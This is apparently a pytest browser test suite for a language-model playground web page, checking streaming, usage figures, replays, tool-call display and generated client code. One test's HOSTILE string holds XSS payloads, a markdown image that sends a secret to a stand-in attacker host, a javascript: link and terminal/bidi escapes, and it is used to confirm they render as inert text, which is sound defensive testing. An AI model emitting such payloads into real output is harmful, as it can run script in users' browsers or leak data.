"""The playground in a browser: what it shows is what the API says, or what was scripted."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from tests.edge.console.browsing import BROWSER, Pages, ask, said, shot, until
from tests.edge.scripted_region import MODEL, Hold, Moved, answer
from tests.edge.support import ACCOUNT, CHAT, PATIENCE, Deployment
from tests.tools import program

pytestmark = BROWSER


# --- the playground ------------------------------------------------------------------------------


def test_the_text_streams_as_it_comes(at: Deployment, pages: Pages) -> None:
    at.region.script = lambda submit: [list(b"One"), Hold()]
    page = pages.open()
    ask(page)
    until(page, "document.querySelector('.answer').innerText.includes('One')")
    assert page.inner_text("#run") == "Stop"
    page.click("#run")
    page.wait_for_selector("text=Stopped after")
    assert at.region.streams[-1].aborted.wait(PATIENCE)  # the node stops computing


def test_figures_are_those_of_the_usage(at: Deployment, pages: Pages) -> None:
    at.region.script = said("Hello, whole world")
    page = pages.open()
    ask(page)
    page.wait_for_selector("text=Done:")
    usage = at.chat().json()["usage"]
    names, values = (page.locator(f".meters {each}").all_inner_texts() for each in ("dt", "dd"))
    figures = dict(zip(names, values, strict=True))
    assert figures["Tokens"] == str(usage["completion_tokens"])
    assert re.fullmatch(r"[\d.]+ ?m?s", figures["First token"])
    assert float(figures["Tokens/s"]) > 0


def test_a_replay_is_compared_and_says_so(at: Deployment, pages: Pages) -> None:
    page = pages.open()
    ask(page)
    page.wait_for_selector("text=Done:")
    page.click("#replay")
    page.wait_for_selector("text=Identical, character by character.")
    first, second = at.region.submits[-2:]
    assert first.sampling.seed == second.sampling.seed
    assert first.prompt_ids == second.prompt_ids
    at.region.script = said("Hello?")
    page.click("#replay")
    page.wait_for_selector("text=Not the same:")


def test_a_conversation_goes_on(at: Deployment, pages: Pages) -> None:
    page = pages.open()
    ask(page, "One?")
    page.wait_for_selector("text=Done:")
    ask(page, "Two?")
    until(page, "document.querySelectorAll('.asked').length === 2")
    page.wait_for_selector("text=Done:")
    prompt = bytes(each for each in at.region.submits[-1].prompt_ids if each < 256).decode()
    assert prompt == "<user>One?\n<assistant>Hello\n<user>Two?\n<assistant>"


def test_two_models_answer_side_by_side(at: Deployment, pages: Pages) -> None:
    page = pages.open()
    page.wait_for_selector("#run")
    page.check("#side")
    ask(page)
    until(page, "document.querySelectorAll('.lane .state').length === 2")
    assert {each.model for each in at.region.submits} == {MODEL, CHAT}
    assert len({each.sampling.seed for each in at.region.submits}) == 1
    shot(page, "side-by-side-dark")


def test_a_schema_is_refused_with_its_path(at: Deployment, pages: Pages) -> None:
    page = pages.open()
    page.wait_for_selector("#run")
    page.check("#schema")
    bad = '{"type": "object", "properties": {"a": {"type": "year"}}}'
    page.fill("#schema-text", bad)
    page.click("#run")
    until(page, "document.querySelector('#schema-fault').textContent !== ''")
    refused = at.chat(
        response_format={
            "type": "json_schema",
            "json_schema": {
                "name": "answer",
                "schema": {"type": "object", "properties": {"a": {"type": "year"}}},
            },
        }
    )
    assert page.inner_text("#schema-fault") == refused.json()["error"]["message"]
    assert "properties.a" in refused.json()["error"]["message"]
    page.fill("#schema-text", "{")
    page.wait_for_selector("text=This is no JSON")
    assert page.is_disabled("#run")


def test_calls_of_tools_are_shown(at: Deployment, pages: Pages) -> None:
    call = '<tool_call>\n{"name": "tide", "arguments": {"place": "Skye"}}\n</tool_call>'
    at.region.script = said(call)
    page = pages.open()
    page.wait_for_selector("#run")
    page.check("#tools")
    ask(page)
    page.wait_for_selector(".call")
    assert page.inner_text(".call b") == "tide"
    assert page.inner_text(".call code").replace(" ", "") == '{"place":"Skye"}'


def test_a_node_that_is_lost_is_marked_and_the_text_goes_on(at: Deployment, pages: Pages) -> None:
    at.region.explanation = '"d1";total=1.0'
    at.region.script = lambda submit: [
        list(b"Hel"), Moved('"d2";total=2.0'), *answer("lo"),
    ]  # fmt: skip
    page = pages.open()
    ask(page)
    page.wait_for_selector("text=It moved once")
    assert page.inner_text(".answer p:last-of-type") == "Hello"
    assert page.get_attribute(".echo .mark", "d").count("M") == 1


HOSTILE = (
    "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned=1\">\n\n"
    "![steal](https://evil.example/?q=secret) [click](javascript:alert(1)) \x1b[2J "
    "\u202eevil\u202c **bold** `code`"
)  # fmt: skip


def test_a_hostile_answer_stays_text(at: Deployment, pages: Pages) -> None:
    at.region.script = said(HOSTILE)
    page = pages.open()
    ask(page, HOSTILE)
    page.wait_for_selector("text=Done:")
    assert page.locator(":is(.answer, .asked) :is(script, img, a, iframe, svg, style)").count() == 0
    shown = page.inner_text(".answer")
    assert "<script>window.pwned = 1</script>" in shown
    assert "![steal](https://evil.example/?q=secret)" in shown
    assert "⟨U+001B⟩[2J ⟨U+202E⟩evil⟨U+202C⟩" in shown
    assert page.locator(".answer strong").inner_text() == "bold"
    assert page.evaluate("window.pwned") is None
    shot(page, "hostile-dark")


def test_the_edges_own_words_are_shown_when_it_refuses(at: Deployment, pages: Pages) -> None:
    page = pages.open()
    ask(page, "x" * 600)
    page.wait_for_selector(".lane-note [data-state=down]")
    refused = at.client.post(
        at.chat_path, json={"model": MODEL, "messages": [{"role": "user", "content": "x" * 600}]}
    )
    assert page.inner_text(".lane-note").endswith(refused.json()["error"]["message"])


def test_who_may_not_run_sees_it(at: Deployment, pages: Pages) -> None:
    _, viewer = at.edge.tokens.create(account_id=ACCOUNT, role="viewer", now=0)
    page = pages.open(pages.link(viewer.id))
    page.wait_for_selector("text=This login may not run models")
    assert page.is_disabled("#run")


# --- code ----------------------------------------------------------------------------------------

PROMPT = 'It\'s "quoted": `$HOME` ${x} \\ \n\n\nend — ¿é?'


@pytest.mark.parametrize("language", ["curl", "skerry", "openai", "JavaScript"])
def test_the_code_runs_and_asks_the_same(
    at: Deployment, pages: Pages, tmp_path: Path, language: str
) -> None:
    commands = {
        "curl": [program("bash", "bash"), "code"], "skerry": [sys.executable, "code"],
        "openai": [sys.executable, "code"],
        "JavaScript": ["node", "--input-type=module", "-e", "CODE"],
    }  # fmt: skip
    program({"curl": "curl", "JavaScript": "node"}.get(language, "bash"), "bash")
    page = pages.open()
    page.wait_for_selector("#run")
    page.fill("#ask", PROMPT)
    page.click(f"#tab-{language}")
    code = page.inner_text("#code pre")
    assert at.token not in code
    (tmp_path / "code").write_text(code)
    roots = [str(Path(__file__).parents[4] / each) for each in ("sdk", "core", "regions", "edge")]
    done = subprocess.run(
        [code if each == "CODE" else each for each in commands[language]],
        cwd=tmp_path,
        env=os.environ
        | {
            "SKERRY_BASE_URL": pages.base,
            "SKERRY_ACCOUNT_ID": ACCOUNT,
            "SKERRY_API_TOKEN": at.token,
            "PYTHONPATH": os.pathsep.join(roots),
            "no_proxy": "127.0.0.1",
        },
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    lines = [line for line in done.stdout.splitlines() if line.startswith("data: {")]
    events = "".join(json.loads(line[6:]).get("response", "") for line in lines)
    assert (events or done.stdout.strip()) == "Hello"
    prompt = bytes(each for each in at.region.submits[-1].prompt_ids if each < 256).decode()
    assert prompt == f"<user>{PROMPT}\n<assistant>"
    assert at.region.submits[-1].sampling.seed == 4711
    assert at.region.submits[-1].sampling.temperature == 1.0
